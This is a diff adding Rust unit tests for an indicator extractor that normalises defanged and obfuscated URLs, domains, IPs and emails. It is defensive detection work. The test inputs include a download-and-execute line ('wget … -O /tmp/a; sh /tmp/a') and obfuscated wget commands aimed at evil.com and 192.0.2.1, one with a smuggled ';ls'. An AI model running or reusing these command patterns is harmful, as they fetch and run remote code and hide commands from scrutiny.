@@ -179,3 +179,81 @@ fn look(context: Context, text: &str, layer: usize, budget: &mut decode::Budget,
         decode::packed(&looked_at, seen, budget, &mut |budget, context, unpacked| look(context, unpacked, layer + 1, budget, found));
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Rows of a table: context, text, and exactly what is found of one kind.
+    pub(super) type Row<'a> = (Context, &'a str, &'a [&'a str]);
+
+    /// Checks every row of a table, and that there are enough of them; tells all that is wrong at once.
+    pub(super) fn check(field: Field, rows: &[Row<'_>]) {
+        assert!(rows.len() >= 60, "{} rows", rows.len());
+        let mut wrong = String::new();
+        for (context, text, expected) in rows {
+            let mut found = Found::default();
+            indicators(*context, text, &mut found);
+            let values: Vec<&str> = found.indicators.iter().filter(|there| there.field == field).map(|there| there.value.as_str()).collect();
+            if values != *expected {
+                wrong.push_str(&format!("{context:?} {text:?}:\n    found    {values:?}\n    expected {expected:?}\n"));
+            }
+        }
+        assert!(wrong.is_empty(), "\n{wrong}");
+    }
+
+    /// The one value of a kind in a text, and how it was written there.
+    fn verbatim(context: Context, text: &str, field: Field) -> (String, Option<String>) {
+        let mut found = Found::default();
+        indicators(context, text, &mut found);
+        let mut values = found.indicators.into_iter().filter(|there| there.field == field);
+        let first = values.next().unwrap_or_else(|| panic!("no {} in {text:?}", field.name()));
+        assert_eq!(values.next(), None, "{text:?}");
+        (first.value, first.verbatim)
+    }
+
+    #[test]
+    fn what_stood_in_the_text_is_told_where_it_differs() {
+        use Context::*;
+        for (context, text, field, value, written) in [
+            (Other, "http://example.com/a", Field::Url, "http://example.com/a", None),
+            (Other, "see hxxp://evil[.]com/a.", Field::Url, "http://evil.com/a", Some("hxxp://evil[.]com/a")),
+            (Other, "see HTTP://Evil.COM/A now", Field::Url, "http://evil.com/A", Some("HTTP://Evil.COM/A")),
+            (Other, "(evil[.]com)", Field::Domain, "evil.com", Some("evil[.]com")),
+            (Other, "a 192[.]0[dot]2(.)1, b", Field::Ipv4, "192.0.2.1", Some("192[.]0[dot]2(.)1")),
+            (Chat, "ｅｖｉｌ．ｃｏｍ", Field::Domain, "evil.com", Some("ｅｖｉｌ．ｃｏｍ")),
+            (Chat, "ev\u{200b}il.c\u{ad}om\u{200b} x", Field::Domain, "evil.com", Some("ev\u{200b}il.c\u{ad}om")),
+            (Chat, "\u{200b}evil.com", Field::Domain, "evil.com", None),
+            (Chat, "info (at) evil (dot) com ok", Field::Email, "info@evil.com", Some("info (at) evil (dot) com")),
+            (Chat, "x info at evil dot com ok", Field::Email, "info@evil.com", Some("info at evil dot com")),
+            (Command, "wget $'\\x68ttp://evil.com/a'", Field::Url, "http://evil.com/a", Some("\\x68ttp://evil.com/a")),
+            (Command, "w'ge't ht\"tp\"://192.0.2.1/a;ls", Field::Url, "http://192.0.2.1/a", Some("ht\"tp\"://192.0.2.1/a")),
+            // Two stages, one inside the other.
+            (Command, "echo hx\\x78p://evil\\x5b.]com/\\x61 x", Field::Url, "http://evil.com/a", Some("hx\\x78p://evil\\x5b.]com/\\x61")),
+            (Other, "http:\\/\\/evil.com\\/a", Field::Url, "http://evil.com/a", Some("http:\\/\\/evil.com\\/a")),
+            (Other, "fe80::1%eth0", Field::Ipv6, "fe80::1", Some("fe80::1%eth0")),
+            (Other, "bücher.de", Field::Domain, "xn--bcher-kva.de", Some("bücher.de")),
+        ] {
+            assert_eq!(verbatim(context, text, field), (value.to_owned(), written.map(str::to_owned)), "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_text_with_nothing_to_prepare_is_looked_at_as_it_is() {
+        for text in ["wget http://example.com/a -O /tmp/a; sh /tmp/a", "uname -a", "echo 'a' \"b\"", "größe", "a[0] (b) {c}"] {
+            assert!(text::prepare(Context::Command, text, &Seen::of(text)).is_none(), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_text_is_looked_at_up_to_its_bound_and_gives_no_more_than_its_share() {
+        let mut found = Found::default();
+        let far = format!("{} http://example.com/a", "é".repeat(TEXT_BYTES_MAX / 2));
+        indicators(Context::Other, &far, &mut found);
+        assert_eq!(found, Found::default());
+        let many: String = (0..200).map(|index| format!("http://example.com/{index} 192.0.2.{index} ")).collect();
+        indicators(Context::Command, &many, &mut found);
+        assert_eq!(found.indicators.len(), INDICATORS_PER_TEXT_MAX);
+        assert!(found.is_full());
+    }
+}
